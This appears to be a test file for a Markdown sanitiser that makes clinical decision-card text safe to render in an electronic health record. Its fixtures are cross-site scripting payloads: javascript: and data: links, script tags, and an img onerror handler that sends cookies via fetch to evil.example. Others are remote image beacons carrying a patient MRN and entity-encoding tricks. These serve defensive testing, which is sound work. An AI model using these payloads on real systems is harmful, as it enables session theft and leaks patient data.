import MarkdownIt from 'markdown-it';
import { NO_LINKS, safeMarkdown, safePlainText, type CardTextPolicy, type Removals } from './card-markdown';

// What an EHR would show: a permissive GFM-ish renderer with raw HTML on, the worst case for a card.
const ehr = new MarkdownIt('default', { html: true, linkify: true });
const render = (markdown: string): string => ehr.render(markdown);
const UPTODATE: CardTextPolicy = { linkHosts: new Set(['www.uptodate.com']) };

function clean(source: string, policy: CardTextPolicy = NO_LINKS): { out: string; removed: Removals; html: string } {
  const removed: Removals = {};
  const out = safeMarkdown(source, policy, removed);
  return { out, removed, html: render(out) };
}

/** No element an EHR could execute or fetch from, whatever the renderer. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<(script|img|iframe|svg|object|embed|style|a)\b/i);
  expect(html).not.toMatch(/<[a-z][^>]*\son\w+\s*=/i);
  expect(html).not.toMatch(/href\s*=\s*"(?!https:\/\/www\.uptodate\.com\/)/i);
}

describe('safeMarkdown (card detail)', () => {
  it.each<[string, string, Removals]>([
    ['javascript: link', '[Open chart](javascript:alert(document.cookie))', { link_scheme: 1 }],
    ['JaVaScRiPt with entity-encoded colon', '[x](JaVaScRiPt&colon;alert(1))', { link_scheme: 1 }],
    ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', { link_scheme: 1 }],
    ['<img onerror>', 'Check INR <img src=x onerror="fetch(`//evil.example/`+document.cookie)">', { html: 1 }],
    ['<script> block', '<script>alert(1)</script>\n\nCheck potassium.', { html: 1 }],
    ['inline <script>', 'Check <script>alert(1)</script> potassium.', { html: 2 }],
    ['remote image beacon', 'Low K ![x](https://evil.example/p.gif?mrn=123)', { image: 1 }],
    ['image via reference', '![x][b]\n\n[b]: https://evil.example/b.gif', { image: 1 }],
    ['reference-style javascript link', '[click][r]\n\n[r]: javascript:alert(1)', { link_scheme: 1 }],
    ['reference-style link to another host', '[click][r]\n\n[r]: https://evil.example/x', { link_host: 1 }],
    ['angle autolink', 'see <https://evil.example/x?mrn=1>', { link_host: 1 }],
    [
      'bare URL (GFM would autolink it)',
      'see https://evil.example/x and www.evil.com',
      { link_host: 1, link_scheme: 1 },
    ],
    ['mailto autolink', 'mail <someone@evil.example>', { link_scheme: 1 }],
    ['link with userinfo to an allowed host', '[x](https://user@www.uptodate.com/a)', { link_host: 1 }],
    ['http to an allowed host', '[x](http://www.uptodate.com/a)', { link_scheme: 1 }],
    ['allowed host on another port', '[x](https://www.uptodate.com:8443/a)', { link_host: 1 }],
    [
      'markdown inside link text',
      '[**bold** `code` ![i](https://evil.example/i.png)](javascript:x)',
      { link_scheme: 1, image: 1 },
    ],
  ])('neutralises a %s and records it', (_name, source, removals) => {
    const { html, removed } = clean(source, UPTODATE);
    expectInert(html);
    expect(removed).toEqual(removals);
  });

  it('keeps entity tricks as text: nothing decodes into a tag or a link', () => {
    const { out, html, removed } = clean('&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;');
    expectInert(html);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).not.toMatch(/&[#a-z0-9]+;/i);
    expect(removed).toEqual({});
    // Stable: cleaning the cleaned text changes nothing.
    expect(clean(out).out).toBe(out);
  });

  it('keeps the text of a refused link and shows a refused URL only as code', () => {
    expect(clean('[Open chart](javascript:alert(1))').out).toBe('Open chart');
    expect(clean('see <https://evil.example/x>').out).toBe('see `https://evil.example/x`');
    expect(clean('[**INR** guide](javascript:x)').out).toBe('**INR** guide');
  });

  it('keeps an https link to a configured host and drops it when none is configured', () => {
    const src = 'See [warfarin dosing](https://www.uptodate.com/contents/warfarin?x=1).';
    expect(clean(src, UPTODATE).html).toContain('<a href="https://www.uptodate.com/contents/warfarin?x=1">');
    expect(clean(src, UPTODATE).removed).toEqual({});
    const none = clean(src);
    expect(none.html).not.toContain('<a ');
    expect(none.html).toContain('warfarin dosing');
    expect(none.removed).toEqual({ link_host: 1 });
  });

  it('leaves benign clinical Markdown rendering exactly as before', () => {
    const benign = [
      '## Anticoagulation',
      '',
      'INR **3.8** (target 2-3) on _warfarin_ 5 mg; K+ < 3.5 mmol/L & Cr > 1.2.',
      '',
      '- Hold tonight\u2019s dose',
      '- Recheck INR in 24 h',
      '  1. if > 4.5: consider vitamin K',
      '',
      '> Source: Observation P3 (2026-11-02)',
      '',
      '1. First',
      '2. Second',
      '',
      'Dose `5 mg` per day\\',
      'then review.',
      '',
      '```',
      'eGFR 42 mL/min/1.73m2 <script>',
      '```',
    ].join('\n');
    const { html, removed } = clean(benign);
    expect(removed).toEqual({});
    expect(html).toBe(render(benign));
  });
});

describe('safePlainText (summary, labels)', () => {
  it('strips markup, HTML and images, keeps link text, defuses tag openers, keeps comparisons', () => {
    const removed: Removals = {};
    expect(
      safePlainText('**INR** high <img src=x onerror=alert(1)> ![b](https://e.x/b.gif) [see](javascript:x)', removed),
    ).toBe('INR high   see');
    expect(removed).toEqual({ html: 1, image: 1, link_scheme: 1 });
    expect(safePlainText('&lt;script&gt; K+ < 3.5', {})).toBe('‹script> K+ < 3.5');
  });
});
